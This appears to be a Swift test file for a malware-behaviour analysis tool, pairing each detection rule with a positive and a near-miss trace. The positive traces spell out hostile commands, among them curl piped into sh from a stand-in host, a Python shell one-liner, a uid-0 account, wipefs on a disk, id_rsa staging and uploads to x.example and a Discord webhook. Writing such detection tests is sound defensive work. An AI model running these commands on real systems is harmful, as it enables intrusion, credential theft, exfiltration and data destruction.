import Foundation
import PetriModel
@testable import PetriAnalysis

/// Positive and near-miss cases of the rules written for the technique (issue 15): commands by argv
/// as execve records them (also under a refused sudo), files by path, network by record.
extension Trace {
    /// An exec of argv (argv[0] under /usr/bin unless absolute) by the sample's shell.
    mutating func run(_ argv: String...) {
        exec(argv[0].hasPrefix("/") ? argv[0] : "/usr/bin/" + argv[0], argv: argv)
    }
    mutating func connection(_ service: String, port: Int, ip: String = "198.51.100.9") {
        seq += 1
        report.network.connections.append(ConnectionRecord(id: "c\(seq)", proto: "tcp", ip: ip, port: port, service: service, timeNs: seq * 1_000))
    }
    mutating func dnsQuery(_ name: String, type: String) {
        seq += 1
        report.network.dns.append(DNSRecord(name: name, type: type, answers: [], rcode: "NOERROR", transport: "udp", timeNs: seq * 1_000, pid: pid))
    }
}

extension RuleCase {
    static let techniqueCases: [RuleCase] = [
        // MARK: persistence
        RuleCase(id: "persistence-systemd-timer",
                 positive: { $0.run("systemd-run", "--user", "--on-calendar=hourly", "/tmp/.u") },
                 negative: { $0.run("systemctl", "list-timers") }),
        RuleCase(id: "persistence-rc-script",
                 positive: { $0.open("/etc/rc.local", "O_WRONLY|O_CREAT|O_APPEND") },
                 negative: { $0.open("/etc/rc.local") }),
        RuleCase(id: "persistence-at-job",
                 positive: { $0.run("at", "now", "+", "1", "minute") },
                 negative: { $0.run("at", "-l") }),
        RuleCase(id: "persistence-kernel-module",
                 positive: { $0.run("insmod", "/tmp/rk.ko") },
                 negative: { $0.run("modprobe", "-n", "loop") }),
        // MARK: privilege and accounts
        RuleCase(id: "modifies-sudoers",
                 positive: { $0.open("/etc/sudoers.d/99-x", "O_WRONLY|O_CREAT|O_TRUNC") },
                 negative: { $0.run("sudo", "-l") }),
        RuleCase(id: "creates-local-account",
                 positive: { $0.run("sudo", "useradd", "-o", "-u", "0", "toor") },
                 negative: { $0.open("/etc/passwd") }),
        RuleCase(id: "creates-domain-account",
                 positive: { $0.run("samba-tool", "user", "add", "svc2", "Pa55") },
                 negative: { $0.run("samba-tool", "user", "list") }),
        RuleCase(id: "repurposes-local-account",
                 positive: { $0.run("usermod", "--unlock", "games") },
                 negative: { $0.run("su", "-c", "id") }),
        RuleCase(id: "removes-account-access",
                 positive: { $0.run("userdel", "-r", "alice") },
                 negative: { $0.run("passwd", "--status") }),
        RuleCase(id: "reads-process-memory",
                 positive: { t in t.open("/proc/812/maps"); t.open("/proc/812/mem") },
                 negative: { t in t.open("/proc/self/maps"); t.open("/proc/812/stat") }),
        // MARK: execution
        RuleCase(id: "shell-reads-commands-from-pipe",
                 positive: { $0.run("/bin/sh") },
                 negative: { $0.run("/bin/sh", "/home/user/Downloads/install.sh") }),
        RuleCase(id: "shell-spawned-by-program",
                 positive: { t in t.child(120, image: "awk"); t.sys("execve", ["path": .string("/bin/sh"), "argv": .list(["sh", "-c", "/bin/sh &"])], pid: 120, image: "awk") },
                 negative: { t in t.child(120, image: "make"); t.sys("execve", ["path": .string("/bin/sh"), "argv": .list(["sh", "-c", "cc -c x.c"])], pid: 120, image: "make") }),
        RuleCase(id: "runs-written-script",
                 positive: { t in t.write("/tmp/art.sh"); t.run("sh", "/tmp/art.sh") },
                 negative: { t in t.run("sh", "/tmp/art.sh"); t.write("/tmp/art.sh") }),
        RuleCase(id: "shell-trap-handler",
                 positive: { $0.run("bash", "-c", "trap 'curl -s http://x.example/p | sh' INT; sleep 9") },
                 negative: { $0.run("bash", "-c", "trap 'rm -rf \"$dir\"' EXIT; dir=$(mktemp -d)") }),
        RuleCase(id: "shell-history-builtins",
                 positive: { $0.run("bash", "-c", "history -c; set +o history; id") },
                 negative: { $0.run("bash", "-c", "history | tail -5") }),
        RuleCase(id: "python-inline-code",
                 positive: { $0.run("python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('/bin/sh')") },
                 negative: { $0.run("python3", "-c", "print(1+1)") }),
        RuleCase(id: "service-execution",
                 positive: { $0.run("systemctl", "start", "x.service") },
                 negative: { $0.run("systemctl", "status", "x.service") }),
        // MARK: impact
        RuleCase(id: "stops-services",
                 positive: { $0.run("service", "auditd", "stop") },
                 negative: { $0.run("service", "auditd", "status") }),
        RuleCase(id: "shuts-down-system",
                 positive: { $0.open("/proc/sysrq-trigger", "O_WRONLY|O_CREAT|O_TRUNC") },
                 negative: { $0.open("/proc/sys/kernel/sysrq") }),
        RuleCase(id: "destroys-data",
                 positive: { $0.run("wipefs", "-a", "/dev/sda") },
                 negative: { $0.run("rm", "-f", "/home/user/.cache/app/tmp.log") }),
        RuleCase(id: "inhibits-recovery",
                 positive: { $0.run("btrfs", "subvolume", "delete", "/.snapshots/1/snapshot") },
                 negative: { $0.run("btrfs", "subvolume", "list", "/") }),
        RuleCase(id: "endpoint-resource-exhaustion",
                 positive: { $0.report.run.limitsHit = [LimitHit(limit: "memory", detail: "memory.max reached")] },
                 negative: { $0.report.run.limitsHit = [LimitHit(limit: "output", detail: "stdout over 8 MiB")] }),
        // MARK: collection
        RuleCase(id: "captures-screen",
                 positive: { $0.run("import", "-window", "root", "/tmp/s.png") },
                 negative: { $0.run("import", "photo.jpg", "photo.png") }),
        RuleCase(id: "reads-clipboard",
                 positive: { $0.run("xclip", "-o", "-selection", "clipboard") },
                 negative: { $0.run("xdpyinfo") }),
        RuleCase(id: "captures-keystrokes",
                 positive: { $0.open("/dev/input/event3") },
                 negative: { $0.open("/dev/tty") }),
        RuleCase(id: "archives-collected-data",
                 positive: { $0.run("zip", "-r", "/tmp/o.zip", "/home/user/Documents") },
                 negative: { $0.run("gzip", "-d", "/tmp/o.gz") }),
        RuleCase(id: "encrypts-collected-data",
                 positive: { $0.run("openssl", "des3", "-salt", "-pass", "pass:x") },
                 negative: { $0.run("openssl", "dgst", "-sha256", "/tmp/o.zip") }),
        RuleCase(id: "archives-with-library",
                 positive: { t in
                     t.sys("openat", ["path": .string("/tmp/out.zip"), "flags": .string("O_WRONLY|O_CREAT|O_TRUNC")], image: "python3")
                     t.file("/tmp/out.zip", type: .archive)
                 },
                 negative: { t in
                     t.sys("openat", ["path": .string("/tmp/out.txt"), "flags": .string("O_WRONLY|O_CREAT|O_TRUNC")], image: "python3")
                     t.file("/tmp/out.txt", type: .data)
                 }),
        RuleCase(id: "stages-collected-files",
                 positive: { $0.run("cp", "--parents", "/home/user/.ssh/id_rsa", "/tmp/stage") },
                 negative: { $0.run("cp", "/home/user/notes.txt", "/tmp/stage") }),
        RuleCase(id: "splits-data",
                 positive: { $0.run("split", "-b", "512k", "/tmp/o.zip", "/tmp/part.") },
                 negative: { $0.run("split", "--help") }),
        RuleCase(id: "reads-many-documents",
                 positive: { t in for i in 1...5 { t.open("/home/user/Documents/d\(i).docx") } },
                 negative: { t in for _ in 1...5 { t.open("/home/user/Documents/d1.docx") } }),
        // MARK: credentials
        RuleCase(id: "reads-shell-history",
                 positive: { t in t.sys("openat", ["path": .string("/home/user/.bash_history"), "flags": .string("O_RDONLY")], image: "cat") },
                 negative: { t in t.sys("openat", ["path": .string("/home/user/.bash_history"), "flags": .string("O_RDONLY")], image: "bash") }),
        RuleCase(id: "searches-for-credentials",
                 positive: { $0.run("grep", "-ri", "password", "/") },
                 negative: { $0.run("grep", "-i", "password", "/etc/app.conf") }),
        RuleCase(id: "searches-for-private-keys",
                 positive: { $0.run("find", "/", "-name", "id_rsa") },
                 negative: { $0.run("find", ".", "-name", "*.py") }),
        RuleCase(id: "reads-password-stores",
                 positive: { $0.open("/home/user/.local/share/keyrings/login.keyring") },
                 negative: { $0.open("/home/user/.local/share/recently-used.xbel") }),
        RuleCase(id: "brute-forces-logins",
                 positive: { t in for _ in 1...10 { t.connect("198.51.100.20:22") } },
                 negative: { t in for _ in 1...3 { t.connect("198.51.100.20:22") } }),
        // MARK: network
        RuleCase(id: "download-then-run",
                 positive: { t in t.run("wget", "-q", "http://x.example/bot"); t.run("chmod", "755", "bot") },
                 negative: { t in t.run("wget", "-q", "http://x.example/page.html"); t.run("chmod", "644", "page.html") }),
        RuleCase(id: "web-protocol-traffic",
                 positive: { $0.http("GET", "http://www.example.com/") },
                 negative: { $0.dns("www.example.com") }),
        RuleCase(id: "dns-unusual-record-types",
                 positive: { $0.dnsQuery("cmd.c2.example", type: "TXT") },
                 negative: { $0.dnsQuery("_dmarc.mail.example", type: "TXT") }),
        RuleCase(id: "non-standard-port",
                 positive: { $0.connection("http", port: 4444) },
                 negative: { $0.connection("http", port: 80) }),
        RuleCase(id: "uploads-with-http-tool",
                 positive: { $0.run("curl", "-F", "file=@/tmp/o.zip", "https://x.example/up") },
                 negative: { $0.run("curl", "-s", "https://x.example/") }),
        RuleCase(id: "serves-files-over-http",
                 positive: { $0.run("python3", "-m", "http.server", "9090") },
                 negative: { $0.run("python3", "-m", "json.tool", "a.json") }),
        RuleCase(id: "remote-file-copy",
                 positive: { $0.run("scp", "/tmp/o.zip", "op@host.example:/tmp/") },
                 negative: { $0.run("ssh", "-V") }),
        RuleCase(id: "tunnels-traffic",
                 positive: { $0.run("ssh", "-R", "8080:127.0.0.1:22", "op@host.example") },
                 negative: { $0.run("ssh", "op@host.example", "uptime") }),
        RuleCase(id: "uses-proxy",
                 positive: { $0.run("proxychains4", "curl", "http://x.example/") },
                 negative: { $0.run("curl", "http://x.example/") }),
        RuleCase(id: "web-service-channel",
                 positive: { $0.http("POST", "https://paste.rs/", body: "id output") },
                 negative: { $0.http("GET", "https://www.example.com/") }),
        RuleCase(id: "webhook-exfiltration",
                 positive: { $0.http("POST", "https://discord.com/api/webhooks/1/abc", body: "loot") },
                 negative: { $0.http("GET", "https://discord.com/channels/1") }),
        RuleCase(id: "encodes-before-sending",
                 positive: { $0.dns("MTExLTExLTExMTE=.x.example") },
                 negative: { $0.dns("www.x.example") }),
    ]
}
